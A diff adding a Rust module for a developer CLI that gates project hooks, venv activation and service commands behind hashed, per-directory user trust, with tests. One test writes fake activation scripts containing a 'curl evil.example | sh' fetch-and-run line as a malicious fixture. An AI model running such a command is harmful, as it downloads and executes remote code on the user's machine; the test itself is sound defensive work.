@@ -0,0 +1,322 @@
+use crate::app::AppContext;
+use crate::cli::{TrustArgs, TrustCommand};
+use crate::modules::ctx::{self, project};
+use crate::state::store::{Context, StateStore, TrustedCommand};
+use anyhow::{Context as AnyhowContext, Result};
+use dialoguer::{theme::ColorfulTheme, Confirm};
+use sha2::{Digest, Sha256};
+use std::collections::HashSet;
+use std::io::IsTerminal;
+use std::path::Path;
+use tabled::{Table, Tabled};
+
+/// A command a context would run on the user's machine
+#[derive(Debug, Clone)]
+pub struct ContextCommand {
+    /// Where the command comes from, e.g. "on_switch" or "service web"
+    pub label: String,
+    pub command: String,
+}
+
+/// Run the trust management command
+pub fn run(args: TrustArgs, app_ctx: &mut AppContext) -> Result<()> {
+    match args.command {
+        TrustCommand::List => list_trusted(app_ctx),
+        TrustCommand::Allow { context } => allow_context(context, app_ctx),
+        TrustCommand::Revoke { target } => revoke(target, app_ctx),
+    }
+}
+
+/// Every hook, venv activation, service and pane command of a context
+pub fn context_commands(context: &Context) -> Vec<ContextCommand> {
+    let mut commands = Vec::new();
+
+    if let Some(hook) = &context.on_switch {
+        commands.push(ContextCommand { label: "on_switch".to_string(), command: hook.clone() });
+    }
+    if let Some(activate) = activate_command(context) {
+        commands.push(ContextCommand { label: "virtual_env".to_string(), command: activate });
+    }
+    for service in &context.services {
+        commands.push(ContextCommand {
+            label: format!("service {}", service.name),
+            command: service.command.clone(),
+        });
+    }
+    if let Some(layout) = &context.layout {
+        for window in &layout.windows {
+            for command in window.panes.iter().filter_map(|pane| pane.command.as_ref()) {
+                commands.push(ContextCommand {
+                    label: format!("pane in {}", window.name),
+                    command: command.clone(),
+                });
+            }
+        }
+    }
+
+    commands
+}
+
+/// Remove every command that is not in `allowed` from a context
+pub fn retain_commands(context: &mut Context, allowed: &HashSet<String>) {
+    if context.on_switch.as_ref().is_some_and(|hook| !allowed.contains(hook)) {
+        context.on_switch = None;
+    }
+    if activate_command(context).is_some_and(|activate| !allowed.contains(&activate)) {
+        context.virtual_env = None;
+    }
+    context.services.retain(|service| allowed.contains(&service.command));
+    if let Some(layout) = &mut context.layout {
+        for pane in layout.windows.iter_mut().flat_map(|window| window.panes.iter_mut()) {
+            if pane.command.as_ref().is_some_and(|command| !allowed.contains(command)) {
+                pane.command = None;
+            }
+        }
+    }
+}
+
+/// How `ctx switch` would activate the context's venv in the current shell
+fn activate_command(context: &Context) -> Option<String> {
+    let shell = crate::platform::detect_shell().unwrap_or(crate::platform::Shell::Bash);
+    ctx::command::activate_command(context, shell)
+}
+
+/// Trust entries are keyed by the command together with the project path,
+/// so the same hook in another directory (or an edited hook) is asked about again
+fn command_hash(path: &str, command: &str) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(path.as_bytes());
+    hasher.update([0]);
+    hasher.update(command.as_bytes());
+    format!("{:x}", hasher.finalize())
+}
+
+pub fn is_trusted(state: &dyn StateStore, path: &str, command: &str) -> Result<bool> {
+    Ok(state.get_trusted_command(&command_hash(path, command))?.is_some())
+}
+
+/// Record that the user accepts running `command` for `path`
+pub fn allow(state: &mut dyn StateStore, path: &str, command: &str) -> Result<()> {
+    state.save_trusted_command(TrustedCommand {
+        hash: command_hash(path, command),
+        path: path.to_string(),
+        command: command.to_string(),
+        trusted_at: chrono::Local::now().to_rfc3339(),
+    })
+}
+
+/// Ask about commands that are not trusted yet and return the ones that may run.
+/// Prompts go to stderr because `ctx switch` output is eval'd by the shell.
+pub fn review(state: &mut dyn StateStore, path: &str, commands: &[ContextCommand]) -> Result<HashSet<String>> {
+    let mut allowed = HashSet::new();
+    let mut untrusted = Vec::new();
+
+    for command in commands {
+        if is_trusted(state, path, &command.command)? {
+            allowed.insert(command.command.clone());
+        } else {
+            untrusted.push(command);
+        }
+    }
+
+    if untrusted.is_empty() {
+        return Ok(allowed);
+    }
+
+    eprintln!("⚠️  New or changed commands for {}:", path);
+    for command in &untrusted {
+        eprintln!("    {}: {}", command.label, command.command);
+    }
+
+    let interactive = std::io::stdin().is_terminal() && std::io::stderr().is_terminal();
+    let accepted = interactive
+        && Confirm::with_theme(&ColorfulTheme::default())
+            .with_prompt("Trust and run these commands?")
+            .default(false)
+            .interact()?;
+
+    if accepted {
+        for command in untrusted {
+            allow(state, path, &command.command)?;
+            allowed.insert(command.command.clone());
+        }
+    } else {
+        eprintln!("Skipping untrusted commands. Review them and run `dev trust allow <context>` to trust them.");
+    }
+
+    Ok(allowed)
+}
+
+#[derive(Tabled)]
+struct TrustRow {
+    #[tabled(rename = "Hash")]
+    hash: String,
+    #[tabled(rename = "Path")]
+    path: String,
+    #[tabled(rename = "Command")]
+    command: String,
+    #[tabled(rename = "Trusted at")]
+    trusted_at: String,
+}
+
+fn list_trusted(app_ctx: &mut AppContext) -> Result<()> {
+    let trusted = app_ctx.state.list_trusted_commands()
+        .context("Failed to list trusted commands")?;
+
+    if trusted.is_empty() {
+        println!("No trusted commands.");
+        return Ok(());
+    }
+
+    let rows: Vec<TrustRow> = trusted
+        .into_iter()
+        .map(|t| TrustRow {
+            hash: t.hash[..12].to_string(),
+            path: t.path,
+            command: t.command,
+            trusted_at: t.trusted_at,
+        })
+        .collect();
+    println!("{}", Table::new(rows));
+    Ok(())
+}
+
+fn allow_context(name: String, app_ctx: &mut AppContext) -> Result<()> {
+    let context = app_ctx.state.get_context(&name)
+        .with_context(|| format!("Failed to get context '{}'", name))?
+        .ok_or_else(|| anyhow::anyhow!("Context '{}' not found", name))?;
+
+    let mut commands = context_commands(&context);
+    commands.extend(project::env_commands(Path::new(&context.working_dir)));
+    if commands.is_empty() {
+        println!("Context '{}' has no hooks or commands.", name);
+        return Ok(());
+    }
+
+    for command in &commands {
+        allow(app_ctx.state.as_mut(), &context.working_dir, &command.command)?;
+        println!("✓ Trusted {}: {}", command.label, command.command);
+    }
+    Ok(())
+}
+
+/// Shortest hash prefix `revoke` accepts, so a typo can't match everything
+const MIN_PREFIX: usize = 8;
+
+/// Revoke by hash prefix, or every entry for a context's directory
+fn revoke(target: String, app_ctx: &mut AppContext) -> Result<()> {
+    let trusted = app_ctx.state.list_trusted_commands()?;
+    let path = app_ctx.state.get_context(&target)?.map(|context| context.working_dir);
+
+    for t in revoke_matches(trusted, &target, path.as_deref())? {
+        app_ctx.state.delete_trusted_command(&t.hash)?;
+        println!("✓ Revoked {}", t.command);
+    }
+    Ok(())
+}
+
+/// The entries `revoke` removes: all of a context's directory, or the one
+/// entry whose hash starts with `target`
+fn revoke_matches(trusted: Vec<TrustedCommand>, target: &str, path: Option<&str>) -> Result<Vec<TrustedCommand>> {
+    if let Some(path) = path {
+        let matches: Vec<TrustedCommand> = trusted.into_iter().filter(|t| t.path == path).collect();
+        if matches.is_empty() {
+            return Err(anyhow::anyhow!("No trusted commands match '{}'", target));
+        }
+        return Ok(matches);
+    }
+
+    if target.len() < MIN_PREFIX || !target.chars().all(|c| c.is_ascii_hexdigit()) {
+        return Err(anyhow::anyhow!(
+            "'{}' is not a context or a hash prefix of at least {} hex characters (see `dev trust list`)",
+            target, MIN_PREFIX
+        ));
+    }
+    let target = target.to_ascii_lowercase();
+    let matches: Vec<TrustedCommand> = trusted.into_iter().filter(|t| t.hash.starts_with(&target)).collect();
+    match matches.len() {
+        0 => Err(anyhow::anyhow!("No trusted commands match '{}'", target)),
+        1 => Ok(matches),
+        n => Err(anyhow::anyhow!("Hash prefix '{}' is ambiguous ({} matches)", target, n)),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::modules::ctx::project::ProjectContext;
+    use std::collections::HashMap;
+    use std::fs;
+
+    #[test]
+    fn untrusted_project_venv_is_not_sourced() {
+        let dir = std::env::temp_dir().join(format!("dev-trust-test-{}", std::process::id()));
+        let _ = fs::remove_dir_all(&dir);
+        for script in ["bin/activate", "bin/activate.fish", "Scripts/Activate.ps1"] {
+            let path = dir.join(".venv").join(script);
+            fs::create_dir_all(path.parent().unwrap()).unwrap();
+            fs::write(path, "curl evil.example | sh").unwrap();
+        }
+
+        let base = Context {
+            name: "app".to_string(),
+            working_dir: dir.to_string_lossy().to_string(),
+            git_branch: None,
+            env_vars: HashMap::new(),
+            on_switch: None,
+            project_type: None,
+            dependencies: HashMap::new(),
+            virtual_env: None,
+            important_files: Vec::new(),
+            important_dirs: Vec::new(),
+            package_manager: None,
+            layout: None,
+            services: Vec::new(),
+        };
+        let project = ProjectContext { virtual_env: Some(".venv".to_string()), ..Default::default() };
+        let context = project.apply_to(base);
+
+        let commands = context_commands(&context);
+        let activate = commands.iter().find(|command| command.label == "virtual_env").unwrap();
+        assert!(activate.command.contains(".venv"), "{}", activate.command);
+
+        let mut untrusted = context.clone();
+        retain_commands(&mut untrusted, &HashSet::new());
+        assert_eq!(untrusted.virtual_env, None);
+        assert_eq!(activate_command(&untrusted), None);
+
+        let mut trusted = context.clone();
+        retain_commands(&mut trusted, &HashSet::from([activate.command.clone()]));
+        assert_eq!(activate_command(&trusted).as_ref(), Some(&activate.command));
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    fn entry(hash: &str, path: &str) -> TrustedCommand {
+        TrustedCommand {
+            hash: hash.to_string(),
+            path: path.to_string(),
+            command: format!("echo {}", hash),
+            trusted_at: String::new(),
+        }
+    }
+
+    #[test]
+    fn revoke_needs_an_unambiguous_prefix() {
+        let trusted = || vec![entry("abcdef0123", "/a"), entry("abcdef4567", "/a"), entry("0123456789", "/b")];
+        let hashes = |matches: Vec<TrustedCommand>| matches.into_iter().map(|t| t.hash).collect::<Vec<_>>();
+
+        assert_eq!(hashes(revoke_matches(trusted(), "01234567", None).unwrap()), ["0123456789"]);
+        assert_eq!(hashes(revoke_matches(trusted(), "ABCDEF01", None).unwrap()), ["abcdef0123"]);
+        assert_eq!(hashes(revoke_matches(trusted(), "app", Some("/a")).unwrap()), ["abcdef0123", "abcdef4567"]);
+        for target in ["", "a", "0123456", "notahash"] {
+            let error = revoke_matches(trusted(), target, None).unwrap_err().to_string();
+            assert!(error.contains("at least 8 hex characters"), "{}", error);
+        }
+        assert!(revoke_matches(trusted(), "abcdef", None).is_err());
+        assert!(revoke_matches(vec![entry("abcdef0123", "/a"), entry("abcdef0124", "/a")], "abcdef01", None)
+            .unwrap_err()
+            .to_string()
+            .contains("ambiguous"));
+        assert!(revoke_matches(trusted(), "ffffffff", None).is_err());
+    }
+}